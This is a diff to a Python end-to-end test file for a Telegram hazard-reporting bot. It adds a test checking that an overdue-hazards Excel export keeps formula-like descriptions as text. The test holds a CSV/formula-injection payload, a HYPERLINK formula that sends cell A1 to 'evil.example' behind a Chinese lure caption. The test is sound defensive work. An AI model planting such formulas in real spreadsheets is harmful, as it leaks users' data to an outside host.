@@ -3,14 +3,16 @@ them, files too big, and the bot stays within Telegram's limits."""
 
 import io
 import logging
+from datetime import date
 
+from openpyxl import load_workbook
 from PIL import Image
 from sqlalchemy import select
 
 from bot.emulator.harness import LocalRun, TgUser
 from domain.uscc import complete
-from storage.models import Enterprise
-from tests.conftest import ADMIN, rows
+from storage.models import Enterprise, Hazard
+from tests.conftest import ADMIN, grant, rows
 from tests.test_tips_e2e import press
 
 
@@ -57,3 +59,34 @@ async def test_decompression_bombs_are_refused_and_the_dialog_goes_on(local, see
     assert "Photo 1 received" in reply.text
     assert "Photos: 1" in (await press(local, tipster, reply, "Done")).text
     assert not [r for r in caplog.records if r.levelno >= logging.ERROR], caplog.text
+
+
+async def test_overdue_export_keeps_formula_like_descriptions_as_text(local, seeded, county):
+    ent = rows(county, "enterprises")[0]
+    regulator = TgUser(940000002, "Reg", "", "", "en")
+    await grant(seeded, regulator, "regulator", ent["division"])
+    evil = '=HYPERLINK("http://evil.example/"&A1,"查看整改通知")'
+    async with seeded() as s:
+        eid = await s.scalar(select(Enterprise.id).where(Enterprise.uscc == ent["uscc"]))
+        s.add(
+            Hazard(
+                ref="EVIL-1",
+                enterprise_id=eid,
+                found_on=date(2020, 1, 1),
+                description=evil,
+                level="major",
+                deadline=date(2020, 2, 1),
+                status="open",
+            )
+        )
+        await s.commit()
+    listing = await local.client.send(regulator, "/overdue")
+    message = listing.last_with_buttons()
+    export = next(
+        b for row in message["reply_markup"]["inline_keyboard"] for b in row if "Export" in b["text"]
+    )
+    reply = await local.client.press(regulator, message, data=export["callback_data"])
+    doc = next(m["document"] for m in reply.messages if "document" in m)
+    sheet = load_workbook(io.BytesIO(await local.client.file(doc["file_id"]))).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" for c in cells)
